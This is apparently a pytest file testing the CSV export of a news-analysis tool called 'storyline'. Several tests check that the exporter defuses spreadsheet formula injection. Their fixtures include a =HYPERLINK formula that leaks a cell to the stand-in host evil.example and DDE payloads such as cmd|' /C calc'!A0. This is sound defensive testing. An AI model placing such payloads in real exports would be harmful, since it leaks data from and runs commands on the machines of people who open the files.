from __future__ import annotations

import csv
import io
import json

import pytest

from storyline.export import export
from storyline.export.contract import document_dict, entity_dict, fact_dict, finding_dict, statement_dict
from storyline.export.csv_export import COLUMNS, write_csv

from .conftest import ARABIC, HOSTILE_QUOTE, Corpus


def test_csv_columns_cover_every_contract_field(corpus: Corpus) -> None:
    d, e, s, f = corpus.docs[0], corpus.mujahid, corpus.statements[0], corpus.facts[0]
    assert set(document_dict(d)) == set(COLUMNS["documents"])
    assert set(entity_dict(e)) == set(COLUMNS["entities"])
    assert set(statement_dict(s, {})) == set(COLUMNS["statements"])
    assert set(fact_dict(f, {})) | {"value_max"} == set(COLUMNS["facts"])
    assert set(finding_dict(corpus.numbers, note="x")) == set(COLUMNS["findings"])


def test_csv_single_stream_names_the_record_type(corpus: Corpus) -> None:
    out = io.StringIO()
    write_csv(corpus.store, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["record"] for r in rows].count("statement") == 2
    statement = next(r for r in rows if r["record"] == "statement" and r["id"] == corpus.statements[0].id)
    assert statement["content"] == HOSTILE_QUOTE
    assert statement["speaker_id"] == corpus.mujahid.id
    entity = next(r for r in rows if r["record"] == "entity" and r["id"] == corpus.mujahid.id)
    assert ARABIC in json.loads(entity["aliases"])
    assert entity["url"] == ""  # other types' columns stay empty


def test_csv_directory_has_one_file_per_record_type(corpus: Corpus, tmp_path) -> None:
    target = tmp_path / "out"
    export(corpus.store, "csv", str(target) + "/")
    files = sorted(p.name for p in target.iterdir())
    assert files == sorted(f"{name}.csv" for name in COLUMNS)
    with (target / "documents.csv").open(encoding="utf-8", newline="") as fh:
        docs = {r["id"]: r for r in csv.DictReader(fh)}
    assert docs[corpus.docs[1].id]["text"] == corpus.docs[1].text  # newlines, quotes and pipes survive
    assert docs[corpus.docs[1].id]["source"] == "Reuters, Asia"
    assert docs[corpus.docs[2].id]["published"] == ""
    with (target / "findings.csv").open(encoding="utf-8", newline="") as fh:
        findings = list(csv.DictReader(fh))
    assert list(findings[0]) == list(COLUMNS["findings"])
    items = json.loads(next(r for r in findings if r["id"] == corpus.numbers.id)["items"])
    assert {i["id"] for i in items} == {f.id for f in corpus.facts}


def test_csv_directory_refuses_a_file_in_the_way(corpus: Corpus, tmp_path) -> None:
    from storyline.errors import UsageError
    from storyline.export.csv_export import write_csv_dir

    blocker = tmp_path / "taken"
    blocker.write_text("x")
    with pytest.raises(UsageError, match="not a directory"):
        write_csv_dir(corpus.store, blocker)


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
INJECTION_TEXT = (
    f'A spokesman said "{HYPERLINK}".\n'
    "The river level fell -3.5 metres; -12 boats were lost.\n"
    "Officials in Herat said nothing."
)


def _injection_store(tmp_path):
    from storyline.model import Comparator, Document, DocumentAnalysis, Entity, EntityType, Fact
    from storyline.store import CorpusResult, open_store

    from .conftest import V, mention, quote_statement, span

    store = open_store(f"sqlite:///{tmp_path / 'inject.db'}")
    doc = Document.from_text(INJECTION_TEXT, title="@SUM(1+1)*cmd|' /C calc'!A0", source="Plain wire")
    store.add_document(doc)
    statement = quote_statement(doc, HYPERLINK, "A spokesman", 0, None)
    fs, fe = span(INJECTION_TEXT, "-3.5")
    level = Fact(doc.id, fs, fe, "-3.5", "level", -3.5, Comparator.EQ, None, "metres")
    bs, be = span(INJECTION_TEXT, "-12")
    boats = Fact(doc.id, bs, be, "-12", "boats", -12.0)
    herat = mention(doc, "Herat", EntityType.PLACE, 1, "Herat")
    store.save_analyses([DocumentAnalysis(doc.id, V, (herat,), (statement,), (level, boats))])
    hostile = Entity("ent_hostile", EntityType.ORGANIZATION, HYPERLINK, (HYPERLINK, "+cmd", "\tTab"), 1)
    plain = Entity("ent_herat", EntityType.PLACE, "Herat", ("Herat",), 1)
    store.replace_corpus(CorpusResult(entities=(hostile, plain), key_to_entity={f"{doc.id}#1": plain.id}))
    return store, doc, statement, level, boats


def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path) -> None:
    store, doc, statement, _, _ = _injection_store(tmp_path)
    out = io.StringIO()
    write_csv(store, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    stmt = next(r for r in rows if r["record"] == "statement" and r["id"] == statement.id)
    assert stmt["content"] == "'" + HYPERLINK
    entity = next(r for r in rows if r["record"] == "entity" and r["id"] == "ent_hostile")
    assert entity["name"] == "'" + HYPERLINK
    document = next(r for r in rows if r["record"] == "document")
    assert document["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    # the aliases cell is JSON (starts with "["), so the list inside it is left exact
    assert json.loads(entity["aliases"]) == [HYPERLINK, "+cmd", "\tTab"]
    for row in rows:  # nothing anywhere starts like a formula, except plain numbers
        for value in row.values():
            if value[:1] in ("=", "+", "@", "\t", "\r") or (value.startswith("-") and value not in ("-3.5", "-12")):
                raise AssertionError(f"formula-like cell survived: {value!r}")


def test_csv_keeps_negative_numbers_and_ordinary_text(tmp_path) -> None:
    store, doc, _, level, boats = _injection_store(tmp_path)
    target = tmp_path / "dir"
    export(store, "csv", str(target) + "/")
    with (target / "facts.csv").open(encoding="utf-8", newline="") as fh:
        facts = {r["id"]: r for r in csv.DictReader(fh)}
    assert facts[level.id]["text"] == "-3.5"
    assert facts[level.id]["value"] == "-3.5"
    assert facts[boats.id]["text"] == "-12"
    assert facts[boats.id]["value"] == "-12"
    with (target / "entities.csv").open(encoding="utf-8", newline="") as fh:
        entities = {r["id"]: r for r in csv.DictReader(fh)}
    assert entities["ent_herat"]["name"] == "Herat"
    with (target / "documents.csv").open(encoding="utf-8", newline="") as fh:
        (document,) = list(csv.DictReader(fh))
    assert document["source"] == "Plain wire"
    assert document["text"] == doc.text  # starts with ordinary text: exact, quote marks and all


@pytest.mark.parametrize(("text", "expected"), [
    ("=1+1", "'=1+1"),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-12", "-12"),
    ("-3.5", "-3.5"),
    ("+7", "+7"),
    ("-1e6", "-1e6"),
    ("-", "'-"),
    ("-١٢", "'-١٢"),  # not ASCII digits: not a number a spreadsheet reads
    ("Kabul = capital", "Kabul = capital"),
    ("", ""),
])
def test_csv_cell_prefixes_only_formula_starts(text: str, expected: str) -> None:
    from storyline.export.csv_export import _cell

    assert _cell(text) == expected
    assert _cell(-12) == -12 and _cell(-3.5) == -3.5
